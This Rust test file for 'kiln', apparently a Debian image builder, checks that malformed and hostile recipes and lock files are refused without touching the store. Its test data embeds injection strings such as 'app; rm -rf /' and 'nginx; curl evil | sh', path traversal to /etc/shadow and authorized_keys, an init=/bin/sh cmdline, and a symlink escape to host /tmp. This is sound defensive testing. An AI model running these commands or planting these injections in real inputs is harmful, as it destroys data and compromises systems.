//! The bad-input catalog: malformed and hostile recipes, missing tools, an
//! unreachable archive, impossible sizes, unicode and very long names, a
//! recipe that extends itself, a `files` copy through a symlink that leaves
//! the image. Each case asserts its exit code, its message, and that the
//! store and `out/` are exactly as they were.
//!
//! Two tiers. Most cases are refused before the store is opened (the
//! recipe, the lock, the path): they need no root, no tools and no base
//! layer, run in a second and are part of `make check`
//! (`quick_…`). Cases that get as far as the store run real builds as
//! root, in `make test`: they use a private store seeded with a copy of
//! golden's base layer from the shared warm store (`KILN_TEST_STORE`,
//! default /var/tmp/kiln-test-store), or an empty one where the base itself
//! is the point. Every run goes through the harness (`common::Kiln`):
//! a timeout, and no mount, QEMU process or staging dir left behind.
//!
//! Lock-file cases (not TOML, an unknown key or version, a hand-edited pin
//! with a damaged digest or a path out of the pool) are refused when the lock
//! is read, before the store is touched.

mod common;

use std::ffi::OsStr;
use std::path::{Path, PathBuf};

use common::{Kiln, RecipeDir};
const IMAGE: &str = "[image]\nname = \"bad\"\nsize = \"2GiB\"\n";
const BASE: &str = common::BASE;
const BAD_INPUT: i32 = 2;
const FAILURE: i32 = 1;

#[derive(Clone, Copy, PartialEq, Eq)]
enum StoreKind {
    /// Refused before the store is opened (the recipe, the lock, the
    /// arguments): run against a store that does not exist, without root
    /// or tools, by `make check`.
    None,
    /// Golden's base already in the store.
    Seeded,
    /// Nothing in the store: the base would have to be built.
    Empty,
}

struct Case {
    name: &'static str,
    /// Files written into the case's recipe folder; `main.toml` is built.
    files: Vec<(&'static str, String)>,
    store: StoreKind,
    /// Extra environment for kiln.
    env: Vec<(&'static str, String)>,
    exit: i32,
    /// Each must appear in stderr.
    says: Vec<&'static str>,
}

/// A recipe refused before the store is opened.
fn case(name: &'static str, recipe: String, exit: i32, says: &[&'static str]) -> Case {
    Case {
        name,
        files: vec![("main.toml", recipe)],
        store: StoreKind::None,
        env: vec![],
        exit,
        says: says.to_vec(),
    }
}

fn with_base(rest: &str) -> String {
    format!("{IMAGE}{BASE}{rest}")
}

fn layer(rest: &str) -> String {
    with_base(&format!("[[layer]]\nname = \"app\"\n{rest}\n"))
}

fn catalog() -> Vec<Case> {
    let long = "a".repeat(300);
    let mut cases = vec![
        case("not TOML", "[image\nname = \"x\"".into(), BAD_INPUT, &["main.toml", "line"]),
        case("empty file", String::new(), BAD_INPUT, &["main.toml", "base"]),
        case("unknown top-level key", with_base("colour = \"blue\"\n"), BAD_INPUT, &["main.toml", "colour"]),
        case("unknown key in [image]", format!("[image]\nname = \"bad\"\ndisk = \"9GiB\"\n{BASE}"), BAD_INPUT, &["disk"]),
        case("image name with a path", with_base("").replace("name = \"bad\"", "name = \"../../etc/passwd\""), BAD_INPUT, &["image.name", "not a valid name"]),
        case("unicode image name", with_base("").replace("name = \"bad\"", "name = \"wéb-サーバー\""), BAD_INPUT, &["image.name", "not a valid name"]),
        case("300-character image name", with_base("").replace("name = \"bad\"", &format!("name = \"{long}\"")), BAD_INPUT, &["image.name", "not a valid name"]),
        case("layer name with shell syntax", with_base("[[layer]]\nname = \"app; rm -rf /\"\nrun = [\"true\"]\n"), BAD_INPUT, &["layer[0].name"]),
        case("hostile package name", layer("packages = [\"nginx; curl evil | sh\"]"), BAD_INPUT, &["packages[0]", "not a Debian package name"]),
        case("unicode package name", layer("packages = [\"ngïnx\"]"), BAD_INPUT, &["packages[0]", "not a Debian package name"]),
        case("suite with an injected source line", format!("{IMAGE}[base]\nsuite = \"trixie main\\ndeb http://127.0.0.1:8006/ trixie\"\n"), BAD_INPUT, &["base.suite", "not a suite name"]),
        case("mirror with an injected source line", format!("{BASE}mirror = \"http://127.0.0.1:8007/debian trixie main\\ndeb http://127.0.0.1:8006/\"\n").replace("[base]", &format!("{IMAGE}[base]")), BAD_INPUT, &["base.mirror", "not an archive URL"]),
        case("mirror that is not http", format!("{IMAGE}{BASE}mirror = \"ftp://deb.invalid/debian\"\n"), BAD_INPUT, &["base.mirror"]),
        case("unknown variant", format!("{IMAGE}[base]\nsuite = \"trixie\"\nvariant = \"everything\"\n"), BAD_INPUT, &["base.variant", "unknown variant"]),
        case("size zero", with_base("").replace("2GiB", "0"), BAD_INPUT, &["image.size", "zero"]),
        case("size that overflows", with_base("").replace("2GiB", "99999999999TiB"), BAD_INPUT, &["image.size", "too large"]),
        case("negative size", with_base("").replace("2GiB", "-1GiB"), BAD_INPUT, &["image.size", "not a size"]),
        case("size of 1 PiB", with_base("").replace("2GiB", "1048576GiB"), BAD_INPUT, &["image.size", "outside the range"]),
        case("unknown format", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\nformat = \"vmdk\""), BAD_INPUT, &["image.format", "vmdk"]),
        case("unknown export format", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\nformats = [\"vmdk\", \"ova\"]"), BAD_INPUT, &["image.formats[1]", "unknown format `ova`", "containerdisk"]),
        case("hostname with a leading dash", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\nhostname = \"-oops\""), BAD_INPUT, &["image.hostname"]),
        case("cmdline with a newline", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\ncmdline = \"console=ttyS0\\ninit=/bin/sh\""), BAD_INPUT, &["image.cmdline"]),
        case("cmdline that sets root=", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\ncmdline = \"root=/dev/sda1\""), BAD_INPUT, &["image.cmdline", "root="]),
        case("layer that does nothing", with_base("[[layer]]\nname = \"idle\"\n"), BAD_INPUT, &["does nothing"]),
        case("two layers with one name", with_base("[[layer]]\nname = \"app\"\nrun = [\"true\"]\n[[layer]]\nname = \"app\"\nrun = [\"true\"]\n"), BAD_INPUT, &["already exists"]),
        case("files src outside the recipe folder", layer("files = [{ src = \"../../../../etc/shadow\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src"]),
        case("files src absolute", layer("files = [{ src = \"/etc/shadow\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src", "absolute"]),
        case("files src missing", layer("files = [{ src = \"files/nope.txt\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src", "cannot be read"]),
        case("files dest with ..", layer("files = [{ src = \"main.toml\", dest = \"/etc/../../root/.ssh/authorized_keys\" }]"), BAD_INPUT, &["dest", "`..`"]),
        case("files dest relative", layer("files = [{ src = \"main.toml\", dest = \"etc/x\" }]"), BAD_INPUT, &["dest", "not an absolute path"]),
        case("files mode not octal", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\", mode = \"0999\" }]"), BAD_INPUT, &["mode", "octal"]),
        case("files owner without a group", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\", owner = \"root\" }]"), BAD_INPUT, &["owner"]),
        case("packages as a string, not a list", layer("packages = \"lighttpd\""), BAD_INPUT, &["key `layer[0].packages`", "takes a list", "fix: write it as a list: packages = [\"lighttpd\"]"]),
        case("http port as a string", with_base("[smoke]\nhttp = [{ port = \"80\" }]\n"), BAD_INPUT, &["key `smoke.http[0].port`", "the string \"80\"", "65535"]),
        case("extends /etc/passwd", format!("extends = \"/etc/passwd\"\n{IMAGE}"), BAD_INPUT, &["main.toml: key `extends`: extends = \"/etc/passwd\": is not a kiln recipe: /etc/passwd: key `(syntax)`", "fix: point extends at a kiln recipe"]),
        Case {
            name: "extends a TOML file that is not a recipe",
            files: vec![("main.toml", format!("extends = \"Cargo.toml\"\n{IMAGE}")), ("Cargo.toml", "[package]\nname = \"x\"\n".into())],
            store: StoreKind::None,
            env: vec![],
            exit: BAD_INPUT,
            says: vec!["main.toml: key `extends`: extends = \"Cargo.toml\": is not a kiln recipe", "Cargo.toml: key `package`", "fix: point extends at a kiln recipe"],
        },
        case("volume over /usr", with_base("[[volume]]\nname = \"data\"\nmount = \"/usr/lib\"\nsize = \"1GiB\"\n"), BAD_INPUT, &["volume[0].mount", "operating system"]),
        case("recipe extends itself", format!("extends = \"main.toml\"\n{}", with_base("")), BAD_INPUT, &["extends", "cycle"]),
        case("extends a missing recipe", format!("extends = \"golden.toml\"\n{IMAGE}"), BAD_INPUT, &["extends", "does not exist"]),
        Case {
            name: "two recipes extending each other",
            files: vec![("main.toml", format!("extends = \"other.toml\"\n{IMAGE}")), ("other.toml", format!("extends = \"main.toml\"\n{BASE}"))],
            store: StoreKind::None,
            env: vec![],
            exit: BAD_INPUT,
            says: vec!["cycle"],
        },
        // Past validation: these reach the build.
        Case {
            store: StoreKind::Seeded,
            ..case("image smaller than its files", with_base("").replace("2GiB", "64MiB"), BAD_INPUT, &["image.size", "raise [image] size"])
        },
        Case {
            name: "unreachable archive",
            files: vec![("main.toml", format!("{IMAGE}{BASE}mirror = \"http://127.0.0.1:9/debian\"\n"))],
            store: StoreKind::Empty,
            env: vec![],
            exit: FAILURE,
            says: vec!["mmdebstrap", "127.0.0.1:9"],
        },
        Case {
            name: "mmdebstrap not installed",
            files: vec![("main.toml", with_base(""))],
            store: StoreKind::Empty,
            env: vec![("PATH", "/nonexistent".into())],
            exit: FAILURE,
            says: vec!["mmdebstrap (package mmdebstrap)", "make deps"],
        },
        Case {
            name: "dpkg-query not installed",
            files: vec![("main.toml", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\" }]"))],
            store: StoreKind::Seeded,
            env: vec![("PATH", "/nonexistent".into())],
            exit: FAILURE,
            says: vec!["dpkg-query (package dpkg)", "make deps"],
        },
    ];
    // Broken lock files beside a good recipe.
    let pin = |sha: &str, path: &str| {
        format!(
            "version = 1\n[steps.base]\nspec = []\nresolved = 1\n[[steps.base.packages]]\nname = \"apt\"\nversion = \"3.0.4\"\narch = \"amd64\"\nsha256 = \"{sha}\"\narchive = \"main\"\npath = \"{path}\"\n"
        )
    };
    let lock_case = |name: &'static str, lock: String, says: &[&'static str]| Case {
        name,
        files: vec![("main.toml", with_base("")), ("main.lock", lock)],
        store: StoreKind::None,
        env: vec![],
        exit: BAD_INPUT,
        says: says.to_vec(),
    };
    cases.push(lock_case(
        "lock is not TOML",
        "version = 1\n[steps\n".into(),
        &["main.lock", "the lock file is damaged", "fix:"],
    ));
    cases.push(lock_case(
        "lock with an unknown key",
        "version = 1\nbogus = 2\n".into(),
        &["main.lock", "bogus", "fix:"],
    ));
    cases.push(lock_case(
        "lock of a future version",
        "version = 99\n".into(),
        &["main.lock", "lock version 99", "kiln lock --update"],
    ));
    cases.push(lock_case(
        "lock pin with a damaged digest",
        pin("not-a-digest", "pool/main/a/apt/apt_3.0.4_amd64.deb"),
        &["main.lock", "`apt` is not a valid locked package", "fix:"],
    ));
    cases.push(lock_case(
        "lock pin outside the pool",
        pin(&"a".repeat(64), "pool/../../etc/passwd"),
        &["main.lock", "`apt` is not a valid locked package"],
    ));
    // A recipe file that is not there at all.
    cases.push(Case {
        name: "recipe path missing",
        files: vec![("other.toml", with_base(""))],
        store: StoreKind::None,
        env: vec![],
        exit: BAD_INPUT,
        says: vec!["main.toml", "cannot read the recipe"],
    });
    cases
}

/// Everything in the store and in out/ that a failed run might touch.
fn snapshot(store: &Path, out: &Path) -> Vec<String> {
    let mut seen = Vec::new();
    for dir in [
        "layers-v1",
        "images-v1",
        "tmp",
        "corrupt-v1",
        "state-v1/recipes",
        "state-v1/roots",
    ] {
        for name in names(&store.join(dir)) {
            seen.push(format!("store/{dir}/{name}"));
        }
    }
    if !store.exists() {
        seen.push("(no store)".into());
    }
    for name in names(out) {
        seen.push(format!("out/{name}"));
    }
    seen
}

fn names(dir: &Path) -> Vec<String> {
    let mut n: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    n.sort();
    n
}

/// The tests' shared lock of golden's base (see common::base_lock).
fn base_lock() -> String {
    common::base_lock(&common::shared_store())
}

/// Golden's base layer in the shared warm store, built if missing.
fn warm_base_layer() -> PathBuf {
    common::require_build();
    let store = common::shared_store();
    let d = RecipeDir::new();
    let recipe = d.write_recipe("golden-base.toml", with_base(""), &Kiln::with_store(&store));
    let kiln = Kiln::with_store(&store);
    let key = kiln.plan(&recipe).step("base").key.clone();
    let dir = store.join(common::LAYERS).join(&key);
    if !dir.join("entry.json").is_file() {
        kiln.build(&recipe, &[]);
    }
    dir
}

/// A private store holding a copy of golden's base layer.
fn seeded_store(at: &Path) -> PathBuf {
    let store = at.join("seeded-store");
    let layers = store.join(common::LAYERS);
    std::fs::create_dir_all(&layers)
        .unwrap_or_else(|e| panic!("creating {}: {e}", layers.display()));
    let base = warm_base_layer();
    common::tool(
        "cp",
        &[
            OsStr::new("-a"),
            OsStr::new("--reflink=auto"),
            base.as_os_str(),
            layers.as_os_str(),
        ],
        &[],
    );
    store
}

/// Run each case of `kinds` in its own folder; the failures, described.
fn run_cases(kinds: &[StoreKind]) -> (usize, Vec<String>) {
    let work = common::temp_dir("kiln-bad-");
    let seeded = kinds
        .contains(&StoreKind::Seeded)
        .then(|| seeded_store(work.path()));
    let cases: Vec<Case> = catalog()
        .into_iter()
        .filter(|c| kinds.contains(&c.store))
        .collect();
    let mut failures = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let dir = work.path().join(format!("case-{i}"));
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("creating {}: {e}", dir.display()));
        for (name, text) in &c.files {
            std::fs::write(dir.join(name), text).unwrap_or_else(|e| panic!("writing {name}: {e}"));
        }
        if c.store == StoreKind::Seeded && c.files.iter().any(|(n, _)| *n == "main.toml") {
            std::fs::write(dir.join("main.lock"), base_lock()).expect("writing main.lock");
        }
        let store = match (c.store, &seeded) {
            (StoreKind::Seeded, Some(seeded)) => seeded.clone(),
            _ => dir.join("store"),
        };
        let out_dir = dir.join("out");
        let before = snapshot(&store, &out_dir);
        let recipe = dir.join("main.toml");
        let env: Vec<(&str, &str)> = c.env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let run = Kiln::at(&store, &out_dir).run_in(
            &[
                OsStr::new("build"),
                OsStr::new("--no-smoke"),
                recipe.as_os_str(),
            ],
            &env,
            Some(&dir),
        );
        let mut problems = Vec::new();
        if run.code != Some(c.exit) {
            problems.push(format!("exit {:?}, expected {}", run.code, c.exit));
        }
        for s in &c.says {
            if !run.stderr.contains(s) {
                problems.push(format!("message lacks `{s}`"));
            }
        }
        // out/ may gain the build log (it says why it failed); nothing else.
        let after: Vec<String> = snapshot(&store, &out_dir)
            .into_iter()
            .filter(|n| !n.ends_with(".build.log"))
            .collect();
        let before: Vec<String> = before
            .into_iter()
            .filter(|n| !n.ends_with(".build.log"))
            .collect();
        let normalise = |v: Vec<String>| -> Vec<String> {
            v.into_iter().filter(|n| n != "(no store)").collect()
        };
        if normalise(before.clone()) != normalise(after.clone()) {
            problems.push(format!("store or out/ changed: {before:?} -> {after:?}"));
        }
        if c.store == StoreKind::None && store.exists() {
            problems.push(format!("{} was created", store.display()));
        }
        if !problems.is_empty() {
            failures.push(format!(
                "case `{}`: {}\n  stderr: {}",
                c.name,
                problems.join("; "),
                run.stderr.trim().replace('\n', "\n          ")
            ));
        }
    }
    (cases.len(), failures)
}

#[track_caller]
fn assert_all_pass((count, failures): (usize, Vec<String>)) {
    assert!(
        failures.is_empty(),
        "{} of {count} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Every case refused before the store is opened: no root, no tools, no
/// base layer needed, so `make check` runs it.
#[test]
fn quick_bad_recipes_and_locks_fail_before_the_store_and_change_nothing() {
    let (count, failures) = run_cases(&[StoreKind::None]);
    assert!(
        count >= 40,
        "the catalog has only {count} cases that need no build"
    );
    assert_all_pass((count, failures));
}

/// The cases that get as far as the store or the tools.
#[test]
fn bad_input_past_validation_fails_cleanly_and_changes_nothing() {
    let (count, failures) = run_cases(&[StoreKind::Seeded, StoreKind::Empty]);
    assert!(
        count >= 4,
        "the catalog has only {count} cases past validation"
    );
    assert_all_pass((count, failures));
}

#[test]
fn a_files_copy_never_follows_a_symlink_out_of_the_image() {
    let work = common::temp_dir("kiln-bad-");
    let store = seeded_store(work.path());
    let target = format!("kiln-escape-{}", std::process::id());
    let host_victim = Path::new("/tmp").join(&target);
    assert!(!host_victim.exists());
    std::fs::write(work.path().join("payload"), "pwned\n").unwrap();
    let escape = "[[layer]]\nname = \"links\"\nrun = [\"mkdir -p /opt && ln -s ../../../../../../../../tmp /opt/escape && ln -s /../../tmp /opt/abs\"]\n";
    std::fs::write(work.path().join("setup.toml"), with_base(escape)).unwrap();
    for name in ["setup.lock", "main.lock"] {
        std::fs::write(work.path().join(name), base_lock()).unwrap();
    }
    let kiln = |recipe: &str| {
        let run = Kiln::at(&store, &work.path().join("out")).run(&[
            OsStr::new("build"),
            OsStr::new("--no-smoke"),
            work.path().join(recipe).as_os_str(),
        ]);
        std::process::Output {
            status: run.status,
            stdout: run.stdout.into_bytes(),
            stderr: run.stderr.into_bytes(),
        }
    };
    let setup = kiln("setup.toml");
    assert!(
        setup.status.success(),
        "{}",
        String::from_utf8_lossy(&setup.stderr)
    );
    for dest in [
        format!("/opt/escape/{target}"),
        format!("/opt/escape/../{target}"),
    ] {
        let files = format!("{escape}[[layer]]\nname = \"copy\"\nfiles = [{{ src = \"payload\", dest = \"{dest}\" }}]\n");
        std::fs::write(work.path().join("main.toml"), with_base(&files)).unwrap();
        let before = snapshot(&store, &work.path().join("out"));
        let out = kiln("main.toml");
        let err = String::from_utf8_lossy(&out.stderr);
        if dest.contains("..") {
            assert_eq!(out.status.code(), Some(BAD_INPUT), "{err}");
            assert!(err.contains("contains `..`"), "{err}");
        } else {
            assert_eq!(out.status.code(), Some(BAD_INPUT), "{err}");
            assert!(
                err.contains("points out of the image") && err.contains("layer.copy.files[0].dest"),
                "{err}"
            );
        }
        assert!(
            !host_victim.exists(),
            "a files copy wrote {} on the host",
            host_victim.display()
        );
        let after = snapshot(&store, &work.path().join("out"));
        assert_eq!(
            before
                .into_iter()
                .filter(|n| !n.ends_with(".build.log"))
                .collect::<Vec<_>>(),
            after
                .into_iter()
                .filter(|n| !n.ends_with(".build.log"))
                .collect::<Vec<_>>()
        );
    }
    // An absolute link is followed inside the image root, never on the host.
    let files = format!("{escape}[[layer]]\nname = \"copy\"\nfiles = [{{ src = \"payload\", dest = \"/opt/abs/{target}\" }}]\n");
    std::fs::write(work.path().join("main.toml"), with_base(&files)).unwrap();
    let out = kiln("main.toml");
    assert_eq!(
        out.status.code(),
        Some(BAD_INPUT),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!host_victim.exists());
}
